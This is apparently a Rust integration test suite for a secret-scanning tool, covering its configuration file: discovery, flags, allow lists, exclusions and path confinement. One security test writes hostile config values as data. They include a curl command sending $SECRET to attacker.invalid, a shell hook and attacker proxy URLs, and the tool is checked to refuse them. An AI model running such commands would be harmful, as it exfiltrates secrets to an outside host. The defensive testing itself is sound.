//! The configuration file end to end: discovery at the scanned root, `--config`, `--no-config`,
//! every field, the errors (unknown keys named, unknown rule ids, rule files outside the
//! config's folder), the security rule that a config cannot make leakhound contact a host or
//! run a command, and `leakhound config check`. Fake secrets are generated at run time.

mod common;
use common::{binance_pair, binance_secret, fake, git, leakhound, run_json, write, Run};

use predicates::prelude::*;
use serde_json::Value;
use std::path::Path;

/// A token only the config's extra rule below knows.
fn acme_token(seed: u64) -> String {
    format!("acme_{}", fake(32, seed))
}

const ACME_RULE: &str = r#"
[[rules]]
id = "acme-token"
name = "ACME token"
description = "A token for the (made-up) ACME API."
severity = "high"
keywords = ["acme_"]
regex = '''\b(?P<secret>acme_[A-Za-z0-9]{32})\b'''
remediation = "Revoke it in the ACME console."
"#;

/// `leakhound scan --format json ARGS` in `dir` (ARGS include the PATHs).
fn scan(dir: &Path, args: &[&str]) -> Run {
    run_json(dir, &[&["scan"], args].concat())
}

fn rule_ids(doc: &Value) -> Vec<String> {
    let mut ids: Vec<String> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap().to_string())
        .collect();
    ids.sort();
    ids
}

fn paths(doc: &Value) -> Vec<String> {
    let mut p: Vec<String> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    p.sort();
    p
}

#[test]
fn found_at_the_scanned_root_and_skipped_with_no_config() {
    let top = tempfile::tempdir().unwrap();
    let d = top.path().join("project");
    write(&d, ".leakhound.toml", ACME_RULE);
    write(&d, "src/client.py", &format!("call({})\n", acme_token(1)));

    // At the root of `scan .`, and of `scan PATH` for a folder PATH.
    assert_eq!(rule_ids(&scan(&d, &["."]).doc), vec!["acme-token"]);
    assert_eq!(
        rule_ids(&scan(top.path(), &["project"]).doc),
        vec!["acme-token"]
    );
    // Found walking up from a sub-folder, or from a file's folder, as git finds `.git`.
    assert_eq!(rule_ids(&scan(&d, &["src"]).doc), vec!["acme-token"]);
    assert_eq!(
        rule_ids(&scan(top.path(), &["project/src/client.py"]).doc),
        vec!["acme-token"]
    );
    // For a file or several PATHs, the current folder is the root.
    assert_eq!(
        rule_ids(&scan(&d, &["src/client.py"]).doc),
        vec!["acme-token"]
    );
    assert_eq!(rule_ids(&scan(&d, &["src", "."]).doc).len(), 2);
    // --no-config ignores it.
    let run = scan(&d, &[".", "--no-config"]);
    assert!(rule_ids(&run.doc).is_empty());
    assert_eq!(run.code, 0);
}

#[test]
fn config_flag_reads_a_given_file_and_a_missing_one_is_an_error() {
    let d = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    write(elsewhere.path(), "shared.toml", ACME_RULE);
    write(d.path(), "a.txt", &format!("call({})\n", acme_token(2)));
    let cfg = elsewhere.path().join("shared.toml");
    let run = scan(d.path(), &[".", "--config", cfg.to_str().unwrap()]);
    assert_eq!(rule_ids(&run.doc), vec!["acme-token"]);
    // --config replaces the discovered file.
    write(
        d.path(),
        ".leakhound.toml",
        "disable_rules = [\"acme-token\"]\n",
    );
    let run = scan(d.path(), &[".", "--config", cfg.to_str().unwrap()]);
    assert_eq!(rule_ids(&run.doc), vec!["acme-token"]);

    leakhound(d.path())
        .args(["scan", ".", "--config", "missing.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("missing.toml"));
    leakhound(d.path())
        .args(["scan", ".", "--config", "x.toml", "--no-config"])
        .assert()
        .code(2);
}

#[test]
fn unknown_keys_are_errors_that_name_the_key() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "a.env", &binance_pair(1));
    for (text, key) in [
        ("disabled_rules = [\"x\"]\n", "disabled_rules"),
        ("[allow]\nregex = [\"x\"]\n", "regex"),
        (
            "[allow.rules.binance-secret-key]\nstopword = [\"x\"]\n",
            "stopword",
        ),
        (&format!("{ACME_RULE}colour = \"red\"\n"), "colour"),
    ] {
        write(d.path(), ".leakhound.toml", text);
        for args in [&["scan", "."][..], &["config", "check"][..]] {
            leakhound(d.path())
                .args(args)
                .assert()
                .code(2)
                .stderr(predicate::str::contains(".leakhound.toml"))
                .stderr(predicate::str::contains(format!("unknown field `{key}`")));
        }
    }
}

/// The security rule: a config found in a scanned repository is untrusted, and no field can
/// make leakhound contact a host or run a command. Keys that would are unknown, so refused.
#[test]
fn a_config_cannot_turn_on_network_access_or_commands() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "a.env", &binance_pair(1));
    for (text, key) in [
        ("verify = true\n", "verify"),
        (
            "command = \"curl https://attacker.invalid/?k=$SECRET\"\n",
            "command",
        ),
        ("[verify]\nenabled = true\n", "verify"),
        ("hooks = [\"sh -c id\"]\n", "hooks"),
        ("proxy = \"http://attacker.invalid:8080\"\n", "proxy"),
        ("url = \"https://attacker.invalid\"\n", "url"),
        // Inside a rule too.
        (&format!("{ACME_RULE}command = \"id\"\n"), "command"),
        (
            &format!("{ACME_RULE}verify_url = \"https://attacker.invalid\"\n"),
            "verify_url",
        ),
    ] {
        write(d.path(), ".leakhound.toml", text);
        leakhound(d.path())
            .args(["scan", "."])
            .assert()
            .code(2)
            .stderr(predicate::str::contains(format!("unknown field `{key}`")));
        leakhound(d.path())
            .args(["config", "check"])
            .assert()
            .code(2)
            .stderr(predicate::str::contains(key));
    }
}

#[test]
fn disable_rules_and_unknown_ids() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "a.txt", &format!("call({})\n", acme_token(3)));
    write(d.path(), "b.env", &binance_pair(1));
    let before = scan(d.path(), &["."]);
    assert!(rule_ids(&before.doc).contains(&"binance-secret-key".to_string()));
    write(
        d.path(),
        ".leakhound.toml",
        &format!("disable_rules = [\"binance-secret-key\", \"binance-api-key\", \"acme-token\"]\n{ACME_RULE}"),
    );
    let after = scan(d.path(), &["."]);
    assert!(
        rule_ids(&after.doc)
            .iter()
            .all(|id| !id.starts_with("binance") && id != "acme-token"),
        "{:?}",
        rule_ids(&after.doc)
    );
    // A narrowing config found in the repository is announced on stderr.
    assert!(
        after.stderr.contains("disables 3 rule(s)"),
        "{}",
        after.stderr
    );

    write(
        d.path(),
        ".leakhound.toml",
        "disable_rules = [\"binance-secret-keyy\"]\n",
    );
    leakhound(d.path())
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("\"binance-secret-keyy\""));
    write(
        d.path(),
        ".leakhound.toml",
        "[allow.rules.no-such-rule]\nstopwords = [\"x\"]\n",
    );
    leakhound(d.path())
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no-such-rule"));

    // A builtin id is not unknown when the builtin rules are simply not loaded.
    write(d.path(), "acme.toml", ACME_RULE);
    write(
        d.path(),
        ".leakhound.toml",
        "disable_rules = [\"binance-secret-key\"]\n",
    );
    let run = scan(
        d.path(),
        &[".", "--no-builtin-rules", "--rules", "acme.toml"],
    );
    assert_eq!(rule_ids(&run.doc), vec!["acme-token"]);
}

#[test]
fn excludes_apply_like_the_exclude_flag() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "vendor/lib/a.env", &binance_pair(1));
    write(d.path(), "keep/b.env", &binance_pair(2));
    write(d.path(), "keep/c.secret.env", &binance_pair(3));
    write(d.path(), "keep/d.env", &binance_pair(4));
    write(
        d.path(),
        ".leakhound.toml",
        "exclude = [\"vendor/\", \"*.secret.env\"]\n",
    );
    let run = scan(d.path(), &["."]);
    assert_eq!(paths(&run.doc), vec!["keep/b.env", "keep/d.env"]);
    // Not scanned at all: excluded files are not counted as scanned.
    assert_eq!(run.doc["stats"]["files_scanned"], 3);
    // The flag adds to the config's list.
    let run = scan(d.path(), &[".", "--exclude", "d.env"]);
    assert_eq!(paths(&run.doc), vec!["keep/b.env"]);
    // Relative to the root whatever the PATHs.
    let run = scan(d.path(), &["vendor", "keep"]);
    assert_eq!(paths(&run.doc), vec!["keep/b.env", "keep/d.env"]);
    // From the parent, PATH is the root.
    let parent = d.path().parent().unwrap();
    let name = d.path().file_name().unwrap().to_str().unwrap();
    let run = scan(parent, &[name]);
    assert_eq!(
        paths(&run.doc),
        vec![format!("{name}/keep/b.env"), format!("{name}/keep/d.env")]
    );
    // A bad glob is an error naming the config.
    write(d.path(), ".leakhound.toml", "exclude = [\"{a,b\"]\n");
    leakhound(d.path())
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(".leakhound.toml"));
}

#[test]
fn allow_regexes_and_stopwords_drop_findings_and_count_as_config() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "one.env", &binance_pair(1));
    write(d.path(), "two.env", &binance_pair(2));
    write(d.path(), "three.env", &binance_pair(3));
    write(d.path(), "acme.txt", &format!("call({})\n", acme_token(4)));
    let s1 = binance_secret(1);
    let s2 = binance_secret(2);
    // A global regex for secret 1, a stopword (any case) from the middle of secret 2, and a
    // per-rule list that must not touch the other rule's findings.
    let config = format!(
        "[allow]\nregexes = ['^{}']\nstopwords = ['{}']\n\n[allow.rules.acme-token]\nstopwords = ['{}']\n\n[allow.rules.binance-api-key]\nregexes = ['.']\n{ACME_RULE}",
        &s1[..10],
        s2[20..28].to_ascii_lowercase(),
        &binance_secret(3)[5..15],
    );
    write(d.path(), ".leakhound.toml", &config);
    let run = scan(d.path(), &["."]);
    assert_eq!(
        paths(&run.doc),
        vec!["acme.txt", "three.env"],
        "{}",
        run.stderr
    );
    assert_eq!(run.doc["stats"]["suppressed"]["config"], 2);

    // Per-rule lists apply to their rule.
    let token = acme_token(4);
    write(
        d.path(),
        ".leakhound.toml",
        &format!(
            "[allow.rules.acme-token]\nstopwords = ['{}']\n{ACME_RULE}",
            &token[10..20]
        ),
    );
    let run = scan(d.path(), &["."]);
    assert_eq!(paths(&run.doc), vec!["one.env", "three.env", "two.env"]);
    assert_eq!(run.doc["stats"]["suppressed"]["config"], 1);

    // --no-suppress keeps the config's allow lists (detection tuning), and says so.
    let run = scan(d.path(), &[".", "--no-suppress"]);
    assert_eq!(run.doc["stats"]["suppressed"]["config"], 1);
    assert!(run.stderr.contains("--no-config"), "{}", run.stderr);
    // --no-config drops them.
    let run = scan(d.path(), &[".", "--no-config"]);
    assert_eq!(run.doc["stats"]["suppressed"]["config"], 0);
}

#[test]
fn rules_files_must_stay_inside_the_configs_folder() {
    let top = tempfile::tempdir().unwrap();
    let d = top.path().join("repo");
    write(&d, "a.txt", &format!("call({})\n", acme_token(5)));
    write(&d, "ci/acme.toml", ACME_RULE);
    write(top.path(), "outside.toml", ACME_RULE);

    write(&d, ".leakhound.toml", "rules_files = [\"ci/acme.toml\"]\n");
    assert_eq!(rule_ids(&scan(&d, &["."]).doc), vec!["acme-token"]);
    // A folder of rule files works too.
    write(&d, ".leakhound.toml", "rules_files = [\"ci\"]\n");
    assert_eq!(rule_ids(&scan(&d, &["."]).doc), vec!["acme-token"]);

    let outside = top.path().join("outside.toml");
    let mut refused = vec![
        "../outside.toml".to_string(),
        "ci/../../outside.toml".to_string(),
        outside.to_str().unwrap().to_string(),
    ];
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&outside, d.join("ci/link.toml")).unwrap();
        refused.push("ci/link.toml".into());
    }
    for entry in refused {
        write(
            &d,
            ".leakhound.toml",
            &format!("rules_files = ['{entry}']\n"),
        );
        leakhound(&d)
            .args(["scan", "."])
            .assert()
            .code(2)
            .stderr(predicate::str::contains("outside the config's folder"));
        leakhound(&d).args(["config", "check"]).assert().code(2);
    }
    write(
        &d,
        ".leakhound.toml",
        "rules_files = [\"ci/missing.toml\"]\n",
    );
    leakhound(&d).args(["scan", "."]).assert().code(2);
}

#[cfg(unix)]
#[test]
fn a_discovered_config_may_not_lead_outside_the_root() {
    // A repository cannot point its config at another file of the machine, whose lines a
    // parse error would then print into the CI log.
    let top = tempfile::tempdir().unwrap();
    let d = top.path().join("repo");
    write(&d, "a.env", &binance_pair(1));
    write(top.path(), "private.txt", "aws_secret = not toml\n");
    std::os::unix::fs::symlink(top.path().join("private.txt"), d.join(".leakhound.toml")).unwrap();
    leakhound(&d)
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("refusing to read it"))
        .stderr(predicate::str::contains("not toml").not());
    // Same for the ignore file.
    std::fs::remove_file(d.join(".leakhound.toml")).unwrap();
    std::os::unix::fs::symlink(top.path().join("private.txt"), d.join(".leakhoundignore")).unwrap();
    leakhound(&d)
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("refusing to read it"));
}

#[test]
fn format_and_max_file_size_defaults_lose_to_flags() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "a.env", &binance_pair(1));
    write(
        d.path(),
        ".leakhound.toml",
        "format = \"json\"\nmax_file_size = 100\n",
    );
    // The config's format, and its size limit (the 165-byte file is skipped).
    let out = leakhound(d.path()).args(["scan", "."]).output().unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).expect("JSON by default now");
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(doc["stats"]["skipped_too_large"], 1);
    // Flags win, even when they spell the built-in default.
    leakhound(d.path())
        .args(["scan", ".", "--format", "text", "--max-file-size", "10MiB"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("CRITICAL"));
    leakhound(d.path())
        .args(["scan", ".", "-f", "jsonl", "--max-file-size=1K"])
        .assert()
        .code(1)
        .stdout(predicate::str::starts_with("{\"rule_id\""));
    // Sizes may be written with units.
    write(d.path(), ".leakhound.toml", "max_file_size = \"1K\"\n");
    leakhound(d.path()).args(["scan", "."]).assert().code(1);
    write(d.path(), ".leakhound.toml", "max_file_size = \"huge\"\n");
    leakhound(d.path())
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("max_file_size"));
    write(d.path(), ".leakhound.toml", "format = \"xml\"\n");
    leakhound(d.path())
        .args(["scan", "."])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unknown format \"xml\""));
}

#[test]
fn config_check_validates_a_file() {
    let d = tempfile::tempdir().unwrap();
    // No file at the default place.
    leakhound(d.path())
        .args(["config", "check"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(".leakhound.toml"));
    let full = format!(
        "format = \"json\"\nmax_file_size = \"5M\"\nexclude = [\"vendor/\"]\ndisable_rules = [\"generic-secret-assignment\"]\nrules_files = []\n\n[allow]\nregexes = ['^test_']\nstopwords = [\"sandbox\"]\n\n[allow.rules.acme-token]\nstopwords = [\"demo\"]\n{ACME_RULE}"
    );
    write(d.path(), ".leakhound.toml", &full);
    leakhound(d.path())
        .args(["config", "check"])
        .assert()
        .success()
        .stdout(predicate::str::contains("is valid"))
        .stdout(predicate::str::contains("1 extra rule"));
    write(d.path(), "other.toml", "[allow]\nregexes = ['(']\n");
    leakhound(d.path())
        .args(["config", "check", "other.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("other.toml"))
        .stderr(predicate::str::contains("bad regex"));
    // A rule that clashes with a builtin id.
    write(
        d.path(),
        "dup.toml",
        &ACME_RULE.replace("acme-token", "binance-secret-key"),
    );
    leakhound(d.path())
        .args(["config", "check", "dup.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("defined twice"));
}

#[test]
fn the_config_applies_to_git_scans() {
    let d = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git(d.path(), args);
    git(&["init", "-q"]);
    write(d.path(), "vendor/a.env", &binance_pair(1));
    write(d.path(), "src/b.env", &binance_pair(2));
    write(d.path(), "src/c.txt", &format!("call({})\n", acme_token(6)));
    write(
        d.path(),
        ".leakhound.toml",
        &format!("exclude = [\"vendor/\"]\n{ACME_RULE}"),
    );
    git(&["add", "-A"]);
    // Staged: the config at the work tree root applies; excluded paths are dropped.
    let out = leakhound(d.path())
        .args(["git", "--staged", "--format", "json"])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(paths(&doc), vec!["src/b.env", "src/c.txt"]);
    assert_eq!(doc["stats"]["suppressed"]["config"], 1);
    git(&["commit", "-q", "-m", "add"]);
    // History.
    let out = leakhound(d.path())
        .args(["git", "--format", "json"])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(paths(&doc), vec!["src/b.env", "src/c.txt"]);
    assert_eq!(rule_ids(&doc), vec!["acme-token", "binance-secret-key"]);
    // From a sub-folder of the work tree, the same root.
    let out = leakhound(&d.path().join("src"))
        .args(["git", "--format", "json"])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(paths(&doc), vec!["src/b.env", "src/c.txt"]);
}
